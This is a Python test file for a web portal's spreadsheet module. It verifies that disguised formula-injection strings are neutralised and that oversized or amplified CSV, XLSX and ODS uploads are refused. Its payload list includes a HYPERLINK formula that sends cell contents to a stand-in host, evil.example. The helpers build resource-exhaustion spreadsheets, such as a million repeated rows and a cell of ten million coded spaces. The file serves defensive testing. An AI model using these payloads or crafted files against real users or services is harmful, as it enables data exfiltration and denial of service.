"""portal/spreadsheets.py on its own: formula characters in every form and width, and uploads
that declare far more rows, cells or characters than they hold, refused quickly and clearly."""

import csv
import io
import sys
import unicodedata

import openpyxl
import pytest

from portal.spreadsheets import (
    FORMULA_CHARACTERS,
    MAX_CELL_CHARACTERS,
    MAX_SHEET_ROWS,
    SpreadsheetError,
    WorkbookSheet,
    csv_chunks,
    neutralise,
    read_rows,
    restore,
    starts_formula,
    write_ods,
    write_xlsx,
)
from tests.hostile_spreadsheets import ods, ods_row, xlsx

# Text a spreadsheet could run as a formula that the ASCII-only rule let through.
DISGUISED = [
    '＝HYPERLINK("http://evil.example/?"&A1,"Details")',  # full-width =
    "＋44 20 7946 0000",  # full-width +
    "－2+3",  # full-width -
    "＠SUM(A1:A9)",  # full-width @
    "﹦1+1",  # small =
    " =1+1",  # a space first
    "   @SUM(1)",
    "\u00a0+1",  # a no-break space
    "\u3000＝1+1",  # an ideographic space, then a full-width =
    "\u200b-2+3",  # a zero-width space
    " \t=1",
]
HARMLESS = ["Libraries", "a=b", "1 + 1", "£2,000", " Libraries", "＝".join(["a", "b"]), "'"]


@pytest.mark.parametrize("text", DISGUISED)
def test_disguised_formulas_get_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", DISGUISED)
def test_a_disguised_formula_reads_back_as_it_was_written(text):
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", [f"'{text}" for text in DISGUISED])
def test_an_apostrophe_before_a_disguised_formula_survives_the_round_trip(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def test_every_character_that_normalises_to_a_formula_start_is_caught():
    normalising = {
        chr(point)
        for point in range(sys.maxunicode + 1)
        if unicodedata.normalize("NFKC", chr(point)) in {"=", "+", "-", "@"}
    }
    assert normalising == FORMULA_CHARACTERS


def _raw_cells(content, file_format):
    """Every text cell as the file holds it, nothing taken off."""
    if file_format == "csv":
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    if file_format == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = []
        for row in workbook.worksheets[0].iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                cells.append(cell.value)
        return cells
    return [cell for _number, cells, _formats in read_rows(content, "ods", 50) for cell in cells]


def _written(file_format, rows):
    target = io.BytesIO()
    if file_format == "csv":
        target.write(b"".join(csv_chunks(rows)))
    elif file_format == "xlsx":
        write_xlsx([WorkbookSheet("Sheet", rows, header_rows=0)], target)
    else:
        write_ods([WorkbookSheet("Sheet", rows, header_rows=0)], target)
    return target.getvalue()


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "ods"])
def test_no_disguised_formula_starts_a_cell_in_any_format(file_format):
    content = _written(file_format, [[text] for text in DISGUISED])
    cells = [cell for cell in _raw_cells(content, file_format) if isinstance(cell, str)]
    assert cells == ["'" + text for text in DISGUISED]
    assert not any(starts_formula(cell) for cell in cells)


# Hostile uploads ---------------------------------------------------------------------------


def rows_read_before_refusal(content, file_format, **limits):
    """How many rows the reader handed over before it refused the file, and its message."""
    count = 0
    with pytest.raises(SpreadsheetError) as refusal:
        for _row in read_rows(content, file_format, 200, **limits):
            count += 1
    return count, str(refusal.value)


def test_an_ods_row_repeated_a_million_times_is_refused_at_the_row_limit():
    content = ods(ods_row("reference") + ods_row(" x", repeat=1048576, columns_repeated=1024))
    assert len(content) < 600
    count, message = rows_read_before_refusal(content, "ods")
    assert count == MAX_SHEET_ROWS
    assert f"more than {MAX_SHEET_ROWS:,} rows" in message


def test_an_xlsx_with_rows_far_apart_is_refused_at_the_row_limit():
    content = xlsx({1: ["reference"], 1048576: ["PARKS-P0001"]})
    assert len(content) < 2000
    count, message = rows_read_before_refusal(content, "xlsx")
    assert count == MAX_SHEET_ROWS
    assert f"more than {MAX_SHEET_ROWS:,} rows" in message


def test_a_csv_of_empty_lines_is_refused_at_the_row_limit():
    count, message = rows_read_before_refusal(b"reference\r\n" + b",,,\r\n" * 50_000, "csv")
    assert count == MAX_SHEET_ROWS
    assert "counting empty rows" in message


def test_a_sheet_with_more_cells_than_the_limit_is_refused_naming_it():
    content = ods(ods_row("x", repeat=50, columns_repeated=100))
    count, message = rows_read_before_refusal(content, "ods", max_cells=1_000)
    assert count == 10
    assert "more than 1,000 cells" in message


def test_an_ods_cell_of_ten_million_coded_spaces_is_refused():
    content = ods(
        '<table:table-row><table:table-cell office:value-type="string"><text:p>a'
        '<text:s text:c="10000000"/>b</text:p></table:table-cell></table:table-row>'
    )
    count, message = rows_read_before_refusal(content, "ods")
    assert count == 0
    assert f"more than {MAX_CELL_CHARACTERS:,} characters" in message


def test_a_declared_dimension_costs_nothing_when_the_rows_are_not_there():
    content = xlsx({1: ["reference"], 2: ["PARKS-P0001"]})
    rows = [(number, cells) for number, cells, _formats in read_rows(content, "xlsx", 200)]
    assert rows == [(1, ["reference"]), (2, ["PARKS-P0001"])]


def test_libreoffice_s_million_empty_rows_at_the_end_of_a_sheet_are_read_once():
    content = ods(
        ods_row("reference")
        + ods_row("PARKS-P0001")
        + ods_row("", repeat=1048574, columns_repeated=1024)
    )
    rows = [(number, cells) for number, cells, _formats in read_rows(content, "ods", 200)]
    assert rows == [(1, ["reference"]), (2, ["PARKS-P0001"]), (3, [])]
